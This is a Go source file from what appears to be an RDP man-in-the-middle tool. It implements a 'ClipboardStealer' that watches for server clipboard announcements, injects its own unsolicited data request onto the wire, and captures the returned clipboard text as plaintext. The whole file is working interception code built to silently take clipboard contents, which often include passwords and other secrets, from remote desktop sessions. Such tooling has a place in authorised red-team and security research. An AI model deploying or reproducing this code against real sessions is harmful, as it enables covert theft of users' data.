package mitm

import (
	"unicode/utf16"

	"github.com/GoFeGroup/rdpmitm/glog"
	"github.com/GoFeGroup/rdpmitm/proto/clipboard"
)

// ClipboardStealer implements the active clipboard capture spec.md §4.6
// describes: whenever the server announces a text format on the clipboard
// (a FormatListPDU carrying CF_UNICODETEXT or CF_TEXT), the stealer issues
// its own unsolicited FormatDataRequestPDU for that format and captures the
// matching FormatDataResponsePDU the server sends back, recording it as one
// CLIPBOARD_DATA event. Unlike FileStealer this stealer does originate a
// PDU onto the wire, so its caller must actually send what OnServerToClient
// returns rather than just observe.
type ClipboardStealer struct {
	// awaitingFormatID is set once a format list announcing a capturable
	// text format has been seen and the auto-request has been sent, so the
	// next FormatDataResponsePDU is known to answer it.
	awaitingFormatID clipboard.ClipboardFormat
	awaiting         bool
}

// NewClipboardStealer returns a stealer with no request in flight.
func NewClipboardStealer() *ClipboardStealer { return &ClipboardStealer{} }

// textFormats lists the formats worth auto-requesting, preferring Unicode
// text since it is the most common.
var textFormats = []clipboard.ClipboardFormat{
	clipboard.CLIPRDR_FORMAT_UNICODETEXT,
	clipboard.CLIPRDR_FORMAT_TEXT,
}

// OnServerToClient inspects one server-to-client clipboard PDU. It handles
// both halves of the stealer's own round trip, which travel this direction
// because the server (target) answers the stealer's injected request the
// same way it answers any other clipboard exchange:
//
//   - FormatListPDU advertising a text format: returns the wire bytes of an
//     unsolicited FormatDataRequestPDU the caller must forward to the server
//     to trigger capture, with inject != nil.
//   - FormatDataResponsePDU answering that request: returns the decoded
//     plaintext with hasCaptured == true.
//
// Any other PDU, or a FormatDataResponsePDU arriving with nothing awaited,
// yields (nil, nil, false).
func (cs *ClipboardStealer) OnServerToClient(pdu clipboard.PDU) (inject []byte, captured []byte, hasCaptured bool) {
	switch p := pdu.(type) {
	case *clipboard.FormatListPDU:
		for _, want := range textFormats {
			for _, entry := range p.Formats {
				if entry.FormatID == want {
					cs.awaitingFormatID = want
					cs.awaiting = true
					req := &clipboard.FormatDataRequestPDU{FormatID: want}
					glog.Debugf("mitm: clipboard stealer auto-requesting format 0x%04x", uint32(want))
					return clipboard.WriteMessage(req, 0), nil, false
				}
			}
		}
	case *clipboard.FormatDataResponsePDU:
		if cs.awaiting {
			cs.awaiting = false
			text := decodeCapturedText(cs.awaitingFormatID, p.Data)
			return nil, text, true
		}
	}
	return nil, nil, false
}

// decodeCapturedText converts CLIPRDR_FORMAT_UNICODETEXT's null-terminated
// UTF-16LE payload to UTF-8; every other format is returned as-is.
func decodeCapturedText(format clipboard.ClipboardFormat, data []byte) []byte {
	if format != clipboard.CLIPRDR_FORMAT_UNICODETEXT {
		return data
	}
	units := make([]uint16, 0, len(data)/2)
	for i := 0; i+1 < len(data); i += 2 {
		u := uint16(data[i]) | uint16(data[i+1])<<8
		if u == 0 {
			break
		}
		units = append(units, u)
	}
	return []byte(string(utf16.Decode(units)))
}
